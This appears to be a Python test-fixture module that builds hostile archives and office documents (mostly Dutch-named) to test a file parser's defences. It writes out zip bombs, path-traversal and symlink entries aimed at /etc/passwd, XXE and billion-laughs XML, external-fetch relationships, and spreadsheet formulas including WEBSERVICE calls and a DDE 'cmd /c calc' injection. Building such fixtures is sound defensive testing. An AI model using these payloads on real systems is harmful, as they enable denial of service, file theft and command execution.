"""Archives and office files made to hurt."""

import io
import random
import struct
import zipfile
from collections.abc import Iterator

from tests.hostile_parts import TEXT, Made, Outside, zeros

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def zip_of(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return out.getvalue()


def packed_zip(name: str, packed: bytes, size: int, method: int = 8, flags: int = 0) -> bytes:
    """An archive of one file that is packed already; its check sum is not right."""
    title = name.encode()
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0, 0, len(packed), size, len(title), 0
    )
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII",
        *(0x02014B50, 20, 20, flags, method, 0, 0, 0, len(packed), size, len(title)),
        *(0, 0, 0, 0, 0, 0),
    )
    begin = len(local) + len(title) + len(packed)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central) + len(title), begin, 0)
    return local + title + packed + central + title + end


def archives() -> Iterator[Made]:
    """Archives that grow, nest, lie or want to write elsewhere."""
    bomb = zeros(4_000_000_000)[2:-4]
    yield "bom.zip", packed_zip("a.txt", bomb, 4_000_000_000)
    yield "bom-liegt.zip", packed_zip("a.txt", bomb, 10)
    yield "bom-als-pdf.zip", packed_zip("a.pdf", bomb, 4_000_000_000)
    nested = zip_of({"a.txt": TEXT.encode()})
    for _ in range(40):
        nested = zip_of({"binnen.zip": nested})
    yield "veertig-diep.zip", nested
    inner = packed_zip("a.txt", bomb[:500_000], 500_000_000)
    yield "bommen-in-zip.zip", zip_of({f"{n}.zip": inner for n in range(30)})
    yield "dertigduizend.zip", zip_of({f"{n}.txt": b"a" for n in range(30_000)})
    yield (
        "tweehonderd-pdfs.zip",
        zip_of({f"{n}.pdf": b"%PDF-1.7\n" + bytes([n]) for n in range(200)}),
    )
    for number, name in enumerate(
        (
            "../../../../tmp/ontsnapt.txt",
            "/tmp/ontsnapt.txt",
            "C:\\Windows\\ontsnapt.txt",
            "..\\..\\ontsnapt.txt",
            "a/" * 500 + "a.txt",
            "n" * 60_000 + ".txt",
            "-rf",
            "<script>alert(1)</script>.txt",
            "a\x00.txt.exe",
            "",
            ".",
            "con.txt",
        )
    ):
        yield f"naam-{number}.zip", zip_of({name: TEXT.encode()})
    link = zipfile.ZipInfo("koppeling.txt")
    link.external_attr = 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield "koppeling.zip", out.getvalue()
    yield "dubbele-namen.zip", zip_of({"a.txt": b"een"}) + zip_of({"a.txt": b"twee"})
    yield "slot.zip", packed_zip("a.txt", b"x" * 90, 90, 0, flags=1)
    yield "onbekend-gepakt.zip", packed_zip("a.txt", b"x" * 90, 90, 97)
    good = zip_of({"a.txt": TEXT.encode() * 50, "b.txt": TEXT.encode()})
    for at in (30, len(good) // 2, len(good) - 10):
        yield f"afgebroken-{at}.zip", good[:at]
    import bz2
    import gzip
    import lzma

    yield "bom.gz", gzip.compress(b"")[:10] + bomb[:1_000_000]
    yield "bom.docx.gz", gzip.compress(zip_of({"word/document.xml": b"<a/>"}))
    yield "bom.bz2", bz2.compress(bytes(3_000_000))
    yield "bom.xz", lzma.compress(bytes(3_000_000))
    yield "kop.7z", b"7z\xbc\xaf\x27\x1c" + bytes(90)
    yield "kop.rar", b"Rar!\x1a\x07\x00" + bytes(90)


def _docx(body: str, head: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    text = f'<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    document = f'<?xml version="1.0"?>{head}{text}'
    return zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": document.encode(),
            **(parts or {}),
        }
    )


def laughs(levels: int = 12) -> str:
    entities = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lach">'
        for n in range(levels)
    )
    return f"<!DOCTYPE x [{entities}]>"


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def office_files(outside: Outside) -> Iterator[Made]:
    """Word, OpenDocument and spreadsheet files with XML that bites."""
    read = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{outside.file}">]>'
    fetch = f'<!DOCTYPE x SYSTEM "{outside.address}/x.dtd">'
    parameter = f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{outside.address}/p">%p;]>'
    for name, head, body in (
        ("lachbom", laughs(), _paragraph("&l11;")),
        ("kwadraat", f'<!DOCTYPE x [<!ENTITY a "{"a" * 100_000}">]>', _paragraph("&a;" * 20_000)),
        ("leest-bestand", read, _paragraph("&e;")),
        ("haalt-op", fetch, _paragraph(TEXT)),
        ("haalt-op-binnenin", parameter, _paragraph(TEXT)),
        ("entiteit-rond", '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', _paragraph("&a;")),
    ):
        yield f"{name}.docx", _docx(body, head)
    links = "".join(
        f'<Relationship Id="r{n}" Type="image" TargetMode="External" Target="{target}"/>'
        for n, target in enumerate((f"{outside.address}/i.png", outside.file, "\\\\127.0.0.1\\x"))
    )
    yield (
        "koppelingen.docx",
        _docx(
            _paragraph(TEXT),
            parts={
                "word/_rels/document.xml.rels": f"<Relationships>{links}</Relationships>".encode()
            },
        ),
    )
    field = f'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;{outside.secret}&quot;"/></w:p>'
    yield "veld-neemt-bestand-op.docx", _docx(field)
    yield (
        "macro.docx",
        _docx(_paragraph(TEXT), parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 90}),
    )
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr>' + _paragraph("a")
    yield "cel-van-honderd-miljoen.docx", _docx(span + "</w:tc></w:tr></w:tbl>")
    for depth in (300, 100_000):
        table = "<w:tbl><w:tr><w:tc>" * depth + _paragraph("a") + "</w:tc></w:tr></w:tbl>" * depth
        yield f"tabel-{depth}-diep.docx", _docx(table)
    yield (
        "niveau-miljard.docx",
        _docx(
            f'<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="-5"/></w:numPr>'
            "</w:pPr>"
            f"<w:r><w:t>{TEXT}</w:t></w:r></w:p>"
        ),
    )
    yield "miljoen-alineas.docx", _docx(_paragraph("a") * 400_000)
    yield "zonder-tekst.docx", zip_of({"word/styles.xml": b"<a/>"})
    yield "xml-is-afbeelding.docx", zip_of({"word/document.xml": b"\x89PNG" + bytes(900)})
    xml = zeros(3_000_000_000)[2:-4]
    yield "bom.docx", packed_zip("word/document.xml", xml, 3_000_000_000)
    yield "bom.xlsx", packed_zip("xl/workbook.xml", xml, 3_000_000_000)
    yield "bom.odt", packed_zip("content.xml", xml, 3_000_000_000)
    yield from _sheets(outside)
    yield from _open_documents(read, fetch)
    group = "<p:grpSp>" * 20_000 + "</p:grpSp>" * 20_000
    slide = f'<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">{group}</p:sld>'
    yield (
        "groepen-diep.pptx",
        zip_of(
            {
                "[Content_Types].xml": b"<Types/>",
                "ppt/presentation.xml": b"<p/>",
                "ppt/slides/slide1.xml": slide.encode(),
            }
        ),
    )
    for seed in range(4):
        yield (
            f"oud-{seed}.doc",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(seed).randbytes(9000),
        )


def _sheets(outside: Outside) -> Iterator[Made]:
    import xlsxwriter

    for name, cells in (
        ("uiterste-cel", {(0, 0): "begin", (1_048_575, 16_383): "einde"}),
        ("formules", {(0, 0): f'=WEBSERVICE("{outside.address}")', (1, 0): "=cmd|' /c calc'!A0"}),
        ("opmaak", {(0, 0): "<b>" * 5000}),
    ):
        out = io.BytesIO()
        with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
            sheet = book.add_worksheet()
            for (row, column), value in cells.items():
                sheet.write(row, column, value)
        yield f"{name}.xlsx", out.getvalue()


def _open_documents(read: str, fetch: str) -> Iterator[Made]:
    space = 'xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" ' + " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("text", "table")
    )
    row = (
        '<table:table-row table:number-rows-repeated="1000000">'
        '<table:table-cell table:number-columns-repeated="1000000"><text:p>a</text:p>'
        "</table:table-cell>"
        "</table:table-row>"
    )
    bodies = {
        "herhaald.ods": (
            "",
            f"<o:spreadsheet><table:table>{row * 50}</table:table></o:spreadsheet>",
        ),
        "spaties.odt": ("", '<o:text><text:p>a<text:s text:c="2000000000"/>b</text:p></o:text>'),
        "leest.odt": (read, "<o:text><text:p>&e;</text:p></o:text>"),
        "haalt.odt": (fetch, f"<o:text><text:p>{TEXT}</text:p></o:text>"),
        "lachbom.odt": (laughs(), "<o:text><text:p>&l11;</text:p></o:text>"),
        "lijst-diep.odt": (
            "",
            f"<o:text>{'<text:list><text:list-item>' * 30_000}</o:text>",
        ),
    }
    for name, (head, body) in bodies.items():
        whole = f"<o:document-content {space}><o:body>{body}</o:body></o:document-content>"
        content = f'<?xml version="1.0"?>{head}{whole}'
        kind = "spreadsheet" if name.endswith("s") else "text"
        mime = f"application/vnd.oasis.opendocument.{kind}".encode()
        yield name, zip_of({"mimetype": mime, "content.xml": content.encode()})
